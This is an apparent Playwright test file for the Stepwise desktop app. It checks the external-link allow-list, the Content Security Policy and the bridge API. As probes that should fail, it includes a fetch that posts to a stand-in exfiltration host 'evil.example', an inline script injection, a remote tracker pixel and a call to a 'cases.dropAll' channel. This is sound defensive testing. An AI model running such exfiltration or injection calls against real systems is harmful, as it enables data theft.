import { expect, test } from '../support/fixtures';

test.describe('navigation and content security', () => {
  test('an external link goes to the system browser after the allow-list check and never replaces the app', async ({ app }) => {
    const { page, core } = app;
    await app.open();
    const appUrl = page.url();
    await page.getByRole('button', { name: 'About' }).click();
    let popups = 0;
    page.on('popup', () => {
      popups += 1;
    });
    await page.getByRole('link', { name: /FindTreatment\.gov/ }).click();
    await expect.poll(() => core.openedLinks).toEqual(['https://findtreatment.gov/']);
    expect(page.url()).toBe(appUrl);
    expect(popups).toBe(0);
    await expect(page.getByRole('heading', { name: 'About Stepwise' })).toBeVisible();
    await page.screenshot({ path: 'test-results/screens/04-about.png' });
  });

  test('a link outside the allow-list is refused by the main-process check', async ({ app }) => {
    const { page, core } = app;
    await app.open();
    const result = await page.evaluate(() => window.stepwise?.invoke('app.openExternal', { url: 'https://evil.example/login' }));
    expect(result).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(core.openedLinks).toEqual([]);
  });

  // eval is not probed here: code run through page.evaluate is exempt from CSP; the unit test checks the policy has no 'unsafe-eval'.
  test('the production CSP blocks inline script and remote content', async ({ app }) => {
    const { page } = app;
    await app.open();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      const image = document.createElement('img');
      image.src = 'https://tracker.example/pixel.png';
      document.body.append(image);
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      let fetchFailed = false;
      try {
        await fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'x' });
      } catch {
        fetchFailed = true;
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return {
        inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
        fetchFailed,
        violations,
      };
    });
    expect(outcome.inlineRan).toBe(false);
    expect(outcome.fetchFailed).toBe(true);
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'frame-src', 'connect-src']));
    expect(app.blockedRequests).toEqual([]);
  });

  test('the bridge exposes exactly one function and rejects unknown channels and bad payloads', async ({ app }) => {
    const { page, core } = app;
    await app.open();
    const shape = await page.evaluate(() => ({
      keys: Object.keys(window.stepwise ?? {}),
      hasRequire: typeof (window as unknown as { require?: unknown }).require,
      hasProcess: typeof (window as unknown as { process?: unknown }).process,
    }));
    expect(shape).toEqual({ keys: ['invoke'], hasRequire: 'undefined', hasProcess: 'undefined' });
    const unknown = await page.evaluate(() => window.stepwise?.invoke('cases.dropAll', {}));
    expect(unknown).toMatchObject({ ok: false, error: { code: 'unknown_channel' } });
    const invalid = await page.evaluate(() => window.stepwise?.invoke('cases.create', { mrn: '', fullName: 3 }));
    expect(invalid).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect(core.database.sqlite.prepare('SELECT count(*) FROM cases').pluck().get()).toBe(0);
  });
});
